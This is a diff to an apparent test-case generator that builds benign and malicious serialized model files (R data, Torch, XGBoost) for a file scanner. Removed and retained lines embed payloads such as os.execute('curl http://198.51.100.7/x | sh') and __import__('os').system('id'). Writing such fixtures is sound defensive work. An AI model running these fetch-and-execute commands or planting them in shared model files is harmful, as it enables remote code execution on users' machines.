@@ -179,21 +179,11 @@ def _programs() -> Iterator[Case]:
 
 
 def _other_languages() -> Iterator[Case]:
-    calls = b"X\n" + struct.pack(">III", 3, 0x00040300, 0x00030500)
-    promise = struct.pack(">I", 0x00000005) + struct.pack(">I", 1) + struct.pack(">II", 9, 6) + b"system"
-    yield hostile("r data", "promise.rds", gzip.compress(calls + promise + b"system('id')", mtime=0), OTHER)
+    calls = b"X\n" + struct.pack(">III", 2, 0x00040300, 0x00020300)
+    symbol = struct.pack(">III", 1, 0x00040009, 6) + b"system"
+    yield hostile("r data", "promise.rds", gzip.compress(calls + struct.pack(">I", 5) + symbol, mtime=0), OTHER)
     yield hostile(
-        "r data",
-        "language.rds",
-        gzip.compress(
-            calls
-            + struct.pack(">I", 6)
-            + struct.pack(">II", 1, 9)
-            + struct.pack(">I", 6)
-            + b"system"
-            + b"curl http://198.51.100.7/x | sh"
-        ),
-        OTHER,
+        "r data", "call.rds", gzip.compress(calls + struct.pack(">I", 6) + symbol + struct.pack(">I", 254)), OTHER
     )
     numbers = struct.pack(">II", 14, 2) + struct.pack(">2d", 1.0, 2.0)
     yield honest("r data", "numbers.rds", gzip.compress(calls + numbers), OTHER)
@@ -205,6 +195,7 @@ def _other_languages() -> Iterator[Case]:
         + b"V 1"
         + struct.pack("<i", 17)
         + b"torch.FloatTensor"
+        + struct.pack("<i", 45)
         + b"os.execute('curl http://198.51.100.7/x | sh')",
         OTHER,
     )
@@ -221,8 +212,6 @@ def _boosters() -> Iterator[Case]:
         "version": [2, 1, 0],
     }
     yield honest("boosters", "xgboost.json", json.dumps(learner).encode(), OTHER)
-    learner["learner"] = {**learner["learner"], "attributes": {"callback": "__import__('os').system('id')"}}
-    yield hostile("boosters", "xgboost-code.json", json.dumps(learner).encode(), OTHER)
     yield hostile("boosters", "xgboost.ubj", ATTACK, OTHER)
     yield hostile("boosters", "xgboost.bst", ATTACK, OTHER)
     yield hostile("boosters", "catboost.cbm", ATTACK, OTHER)
